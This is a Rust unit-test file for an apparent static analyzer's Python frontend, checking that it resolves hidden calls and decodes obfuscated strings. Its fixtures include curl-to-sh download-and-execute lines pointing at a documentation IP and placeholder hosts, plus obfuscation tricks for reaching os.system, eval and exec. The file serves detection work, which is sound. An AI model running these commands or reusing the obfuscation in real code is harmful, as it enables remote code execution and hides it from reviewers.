//! The Python frontend's unit tests.

use super::*;
use crate::lang::test_util::{self, assert_has_all, has_pipe};

fn callees(src: &str) -> Vec<String> {
    test_util::callees(test_util::facts(Language::Python, src))
}

#[test]
fn assignment_binds_call_results_and_paths() {
    let c = callees(
        "import socket, os\nfrom flask import Flask\ns = socket.socket()\ns.bind(('', 80))\napp = Flask(__name__)\napp.run()\nenv = os.environ\nenv.get('X')\no = __import__('os')\no.system(x)",
    );
    assert_has_all(
        &c,
        &[
            "socket.socket().bind",
            "flask.Flask().run",
            "os.environ.get",
            "os.system",
        ],
    );
}

#[test]
fn with_as_binds_and_reassignment_forgets() {
    let c = callees(
        "import requests\nwith requests.Session() as s:\n    s.get(u)\ns = 1\ns.get(u)\nlocal = thing()\nlocal.run()",
    );
    assert_has_all(&c, &["requests.Session().get", "s.get", "local.run"]);
}

#[test]
fn f_strings_with_placeholders_are_dynamic_but_still_shell() {
    let f = test_util::facts(
        Language::Python,
        "import os\nos.system(f'curl {url} | sh')\nos.system(f'ls')",
    );
    let args: Vec<&Vec<Arg>> = f
        .iter()
        .filter_map(|k| match k {
            FactKind::Call { args, .. } => Some(args),
            _ => None,
        })
        .collect();
    assert!(matches!(args[0][0], Arg::Dynamic(_)), "{args:?}");
    assert_eq!(args[1][0], Arg::Literal("ls".into()));
    assert!(has_pipe(&f, "curl", "sh"), "{f:?}");
}

#[test]
fn computed_subscripts_and_call_results_as_members() {
    let m = test_util::members(test_util::facts(
        Language::Python,
        "import os\na = os.environ[name]\nb = os.environ['HOME']\nc = os.environ.copy()\nprint(c)\nd = os.environ\nprint(d)",
    ));
    assert!(m.contains(&"os.environ[]".to_string()), "{m:?}");
    assert!(m.contains(&"os.environ.HOME".to_string()), "{m:?}");
    // `print(c)` passes a call's result, not a module path.
    assert!(!m.iter().any(|p| p.contains("()")), "{m:?}");
    assert_eq!(m.iter().filter(|p| *p == "os.environ").count(), 2, "{m:?}");
}

fn strings(src: &str) -> Vec<String> {
    let sink = test_util::sink(Language::Python, src);
    sink.assembled.into_iter().map(|(v, _, _)| v).collect()
}

#[test]
fn assembled_strings_fold() {
    let got = strings(concat!(
        "a = 'hsab | ' + 'kcap'\n",
        "b = ''.join(['ht', 'tps://', 'x.example.invalid'])\n",
        "c = ''.join(chr(c) for c in [105, 100])\n",
        "d = ''.join(map(chr, [0x69, 0x64]))\n",
        "e = bytes([105, 100]).decode()\n",
        "f = a[::-1]\n",
        "g = f'{b}/x'\n",
        "h = '{}-{}'.format('p', 'q')\n",
        "i = __import__('base64').b64decode('aWQ=').decode()\n",
        "j = x + 'y'\n",
    ));
    assert_eq!(
        got,
        [
            "hsab | kcap",
            "https://x.example.invalid",
            "id",
            "id",
            "id",
            "pack | bash",
            "https://x.example.invalid/x",
            "p-q",
            "id",
        ]
    );
}

#[test]
fn names_and_getattr_resolve_through_folding() {
    let c = callees(
        "import builtins\nm = __import__('url' + 'lib.request')\nm.urlopen(u)\nx = getattr(builtins, 'ex' + 'ec')\nx(code)\nimport os\ncmd = 'curl -s http://203.0.113.9/a | sh'\nos.system(cmd)",
    );
    assert_has_all(&c, &["urllib.request.urlopen", "exec"]);
    let f = test_util::facts(
        Language::Python,
        "import os\ncmd = 'curl -s http://203.0.113.9/a | sh'\nos.system(cmd)",
    );
    assert!(has_pipe(&f, "curl", "sh"), "{f:?}");
}

#[test]
fn decoders_xor_and_index_maps_fold() {
    let got = strings(concat!(
        "import base64, codecs, zlib, urllib.parse\n",
        "a = base64.b32decode('NFSCALLV').decode()\n",
        "b = base64.b85decode('X=ETRbp').decode()\n",
        "c = base64.a85decode('Bk/><FT').decode()\n",
        "d = codecs.decode('vq -h', 'rot_13')\n",
        "e = urllib.parse.unquote('id%20-u')\n",
        "K = 0x20\n",
        "D = [73, 68, 0, 13, 85]\n",
        "f = ''.join(chr(c ^ K) for c in D)\n",
        "g = bytes(b ^ K for b in D).decode()\n",
        "P = [' -u', 'id']\n",
        "h = ''.join(P[i] for i in [1, 0])\n",
        "i = chr(100 + 5) + chr(0x64)\n",
        "j = ''.join(chr(ord(c) - 1) for c in 'je!.v')\n",
        "k = zlib.decompress(base64.b64decode('eJzLTFHQLQUABNEBkA==')).decode()\n",
        "l = ''.join(reversed('u- di'))\n",
    ));
    let mut want = vec!["id -u"; 8];
    want.extend(["id", "id -u", "id -u", "id -u"]);
    assert_eq!(got, want);
}

#[test]
fn hidden_lookups_resolve_and_are_reported() {
    let f = test_util::facts(
        Language::Python,
        "import os\nrun = getattr(os, 'sys' + 'tem')\nrun(c)\nglobals()['__builtins__']['ev' + 'al'](s)\nvars(__builtins__)['exec'](s)\ngetattr(__builtins__, k)(s)\ngetattr(self, name)()",
    );
    let c = test_util::callees(f);
    assert_has_all(
        &c,
        &[
            "<lookup>:os.system",
            "os.system",
            "<lookup>:eval",
            "eval",
            "<lookup>:exec",
            "exec",
            "<lookup>:builtins[]",
        ],
    );
    assert!(!c.iter().any(|c| c.contains("self")), "{c:?}");
}

#[test]
fn downloads_across_argument_vectors() {
    let sink = test_util::sink(
        Language::Python,
        "import subprocess\np = '/tmp/x'\nsubprocess.run(['curl', '-o', p, 'https://example.invalid/x'])\nsubprocess.run(['bash', p])",
    );
    let run = test_util::command(&sink, "<run-downloaded>");
    assert!(matches!(&run.kind, FactKind::Command { args, .. } if args == &["/tmp/x"]));
}
